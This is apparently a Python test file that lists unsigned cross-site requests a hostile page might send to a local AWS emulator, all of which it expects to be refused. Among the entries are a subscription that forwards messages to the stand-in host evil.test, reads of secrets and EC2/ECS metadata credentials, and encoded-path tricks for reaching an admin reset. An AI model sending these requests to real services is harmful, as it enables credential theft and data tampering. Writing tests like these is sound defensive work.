"""What a web page or another program may send to the emulator without a signature: all of it is refused."""

import json

from tests.system.e2e.strangers.attack import CLOSED, Attack, Request, attacks, form, get, text

_LIST = "Action=ListQueues&Version=2012-11-05"
_FUNCTION = json.dumps(
    {
        "FunctionName": "planted",
        "Runtime": "python3.13",
        "Role": "$submit_role",
        "Handler": "app.handler",
        "Code": {"ZipFile": "UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA=="},
    }
)
_SCAN = Request(
    "POST",
    "/",
    (("Content-Type", "application/x-amz-json-1.0"), ("X-Amz-Target", "DynamoDB_20120810.Scan")),
    '{"TableName": "$table"}',
)
_SECRET = Request(
    "POST",
    "/",
    (("Content-Type", "application/x-amz-json-1.1"), ("X-Amz-Target", "secretsmanager.GetSecretValue")),
    '{"SecretId": "$secret_id"}',
)
_UPLOAD = (
    '--b\r\nContent-Disposition: form-data; name="key"\r\n\r\nplanted.jpg\r\n'
    '--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\nx\r\n--b--\r\n'
)

# What simple requests may do, which every site may send: no preflight asks first.
_SIMPLE = {
    "a form that lists queues": form(_LIST),
    "a form that makes a queue": form("Action=CreateQueue&QueueName=planted&Version=2012-11-05"),
    "a form that deletes a queue": form("Action=DeleteQueue&QueueUrl=$own_queue&Version=2012-11-05"),
    "a form that sends a message to submit": form("Action=SendMessage&MessageBody=%7B%7D", "$queue_path"),
    "a form that makes a topic": form("Action=CreateTopic&Name=planted&Version=2010-03-31"),
    "a form that subscribes a stranger": form(
        "Action=Subscribe&TopicArn=$topic_arn&Protocol=http&Endpoint=http%3A%2F%2Fevil.test%2F&Version=2010-03-31"
    ),
    "a form that publishes": form("Action=Publish&TopicArn=$topic_arn&Message=x&Version=2010-03-31"),
    "a form that makes a user": form("Action=CreateUser&UserName=planted&Version=2010-05-08"),
    "a form that makes keys": form("Action=CreateAccessKey&UserName=planted&Version=2010-05-08"),
    "a form that takes a role": form("Action=AssumeRole&RoleArn=$submit_role&RoleSessionName=x&Version=2011-06-15"),
    "a form that takes a role with a web identity": form(
        "Action=AssumeRoleWithWebIdentity&RoleArn=$submit_role&RoleSessionName=x&WebIdentityToken=x&Version=2011-06-15"
    ),
    "a form that takes a role with SAML": form(
        "Action=AssumeRoleWithSAML&RoleArn=$submit_role&PrincipalArn=arn:aws:iam::$account:saml-provider/x"
        "&SAMLAssertion=x&Version=2011-06-15"
    ),
    "a form that asks for a session": form("Action=GetSessionToken&Version=2011-06-15"),
    "a form that deletes the stack": form("Action=DeleteStack&StackName=depthdrop-local&Version=2010-05-15"),
    "a text that makes a function": text(_FUNCTION, "/2015-03-31/functions"),
    "a text that invokes submit": text("{}", "/2015-03-31/functions/$submit/invocations"),
    "a text that invokes submit and does not wait": text("{}", "/2015-03-31/functions/$submit/invocations").adding(
        ("X-Amz-Invocation-Type", "Event")
    ),
    "a text that asks SQS by its query": text("{}", "/?Action=CreateQueue&QueueName=planted&Version=2012-11-05"),
    "a link that makes a queue": get("/?Action=CreateQueue&QueueName=planted&Version=2012-11-05"),
    "a link that ends a subscription": get(
        "/?Action=Unsubscribe&SubscriptionArn=$topic_arn%3A1&Version=2010-03-31"
    ),
    "a form that uploads": Request(
        "POST", "/$inbox", (("Content-Type", "multipart/form-data; boundary=b"),), _UPLOAD
    ),
    "a text that makes a bucket": text("", "/planted", "PUT"),
    "a text that overwrites an object": text("x", "/$bucket/$object", "PUT"),
    "a form that deletes objects": text("<Delete><Object><Key>$object</Key></Object></Delete>", "/$bucket?delete"),
    "an object deleted": Request("DELETE", "/$bucket/$object"),
    "an object read": get("/$bucket/$object"),
    "a bucket listed": get("/$bucket?list-type=2"),
    "all buckets listed": get("/"),
    "a table read": _SCAN,
    "the upstream's key read": _SECRET,
    "functions listed": get("/2015-03-31/functions/"),
    "a function's code replaced": text('{"ZipFile": "UEsFBg=="}', "/2015-03-31/functions/$submit/code", "PUT"),
    "the next invocation taken from a worker": get("/2018-06-01/runtime/invocation/next"),
    "a role's credentials by the address of EC2": get("/latest/meta-data/iam/security-credentials/"),
    "a token by the address of EC2": Request(
        "PUT", "/latest/api/token", (("X-aws-ec2-metadata-token-ttl-seconds", "60"),)
    ),
    "a role's credentials by the address of ECS": get("/v2/credentials/x"),
    "keys of a user pool": get("/us-east-1_x/.well-known/jwks.json"),
    "a login page": get("/oauth2/authorize?client_id=x&response_type=code"),
}

# The emulator's own controls, and ways to write them.
_CONTROLS = {
    "reset": text("", "/_ministack/reset"),
    "reset with initial scripts": text("", "/_ministack/reset?init=1"),
    "reset without a body, from a link": get("/_ministack/reset"),
    "reset with an encoded underscore": text("", "/%5fministack/reset"),
    "reset with an encoded underscore, in capitals": text("", "/%5Fministack/reset"),
    "reset encoded twice": text("", "/%255fministack/reset"),
    "reset with an encoded slash": text("", "/_ministack%2freset"),
    "reset after two slashes": text("", "//_ministack/reset"),
    "reset after a dot": text("", "/./_ministack/reset"),
    "reset by way of another folder": text("", "/x/../_ministack/reset"),
    "reset after a backslash": text("", "/\\_ministack/reset"),
    "reset in capitals": text("", "/_MINISTACK/reset"),
    "reset with an empty token": text("", "/_ministack/reset").adding(("X-Depthdrop-Proof", "")),
    "reset with a guessed token": text("", "/_ministack/reset").adding(("X-Depthdrop-Proof", "guessed")),
    "reset with two tokens": text("", "/_ministack/reset").adding(
        ("X-Depthdrop-Proof", "a"), ("X-Depthdrop-Proof", "b")
    ),
    "reset with the proof for its health": text("", "/_ministack/reset").adding(
        ("X-Depthdrop-Proof", "$health_proof")
    ),
    "reset with the proof of another nonce": text("", "/_ministack/reset").adding(
        ("X-Depthdrop-Proof", "2$reset_proof")
    ),
    "reset by a page with the proof": text("", "/_ministack/reset").adding(
        ("X-Depthdrop-Proof", "$reset_proof"), ("Origin", "http://127.0.0.1:$page_port")
    ),
    "reset from another site with the proof": text("", "/_ministack/reset").adding(
        ("X-Depthdrop-Proof", "$reset_proof"), ("Sec-Fetch-Site", "cross-site")
    ),
    "another control with the proof of a reset": text("{}", "/_ministack/config").adding(
        ("X-Depthdrop-Proof", "$reset_proof")
    ),
    "configuration": text('{"sfn.Wait": 0}', "/_ministack/config"),
    "health": get("/_ministack/health"),
    "health as LocalStack has it": get("/_localstack/health"),
    "health by HEAD": Request("HEAD", "/_ministack/health"),
    "readiness": get("/_ministack/ready"),
    "messages of all queues": get("/_ministack/sqs/messages?QueueUrl=$queue_url"),
    "an answer to CloudFormation": text("{}", "/_ministack/cfn-response/x", "PUT"),
    "code of a function": get("/_ministack/lambda-code/$submit"),
    "a login to a database": text("{}", "/_ministack/rds/iam-auth"),
    "a function by its address": get("/_aws/lambda-url/x/"),
    "an interface by its address": get("/_aws/execute-api/x/y/"),
}

_PREFLIGHT = (
    ("Origin", "http://evil.test"),
    ("Access-Control-Request-Method", "POST"),
    ("Access-Control-Request-Headers", "x-amz-target"),
)
# What a browser adds, and what HTTP allows besides.
_BROWSERS = {
    "a preflight": Request("OPTIONS", "/", _PREFLIGHT),
    "a preflight for this network": Request(
        "OPTIONS", "/", (*_PREFLIGHT, ("Access-Control-Request-Private-Network", "true"))
    ),
    "a preflight of a control": Request("OPTIONS", "/_ministack/reset", _PREFLIGHT),
    "OPTIONS of the whole server": Request("OPTIONS", "*"),
    "a stream of events": get("/", ("Accept", "text/event-stream"), ("Origin", "http://evil.test")),
    "an origin of null": form(_LIST).adding(("Origin", "null")),
    "an origin of our page": form(_LIST).adding(("Origin", "http://127.0.0.1:$page_port")),
    "its own origin": form(_LIST).adding(("Origin", "http://127.0.0.1:$port"), ("Sec-Fetch-Site", "same-origin")),
    "a fetch from another site": form(_LIST).adding(
        ("Sec-Fetch-Site", "cross-site"), ("Sec-Fetch-Mode", "no-cors")
    ),
    "a fetch from another port": form(_LIST).adding(("Sec-Fetch-Site", "same-site")),
    "a typed address": get("/", ("Sec-Fetch-Site", "none"), ("Sec-Fetch-Mode", "navigate")),
    "a WebSocket": get(
        "/",
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
    ),
    "a WebSocket to an interface": get(
        "/_aws/execute-api/x/y",
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
    ),
    "a WebSocket that speaks MQTT": get(
        "/mqtt",
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ("Sec-WebSocket-Protocol", "mqtt"),
    ),
    "TRACE": Request("TRACE"),
    "CONNECT": Request("CONNECT", "127.0.0.1:$port"),
    "another method said in a header": form(_LIST).adding(("X-HTTP-Method-Override", "DELETE")),
    "HTTP/2 known beforehand": form("Action=CreateQueue&QueueName=planted").but(is_http2=True),
    "HTTP/2 after an upgrade": get(
        "/?Action=CreateQueue&QueueName=planted",
        ("Connection", "Upgrade, HTTP2-Settings"),
        ("Upgrade", "h2c"),
        ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"),
    ),
}

SECTIONS: dict[str, list[Attack]] = {
    "simple requests": attacks("emulator", _SIMPLE),
    "controls": attacks("emulator", _CONTROLS),
    "browsers and protocols": attacks("emulator", _BROWSERS, 403, 400, 404, CLOSED),
}
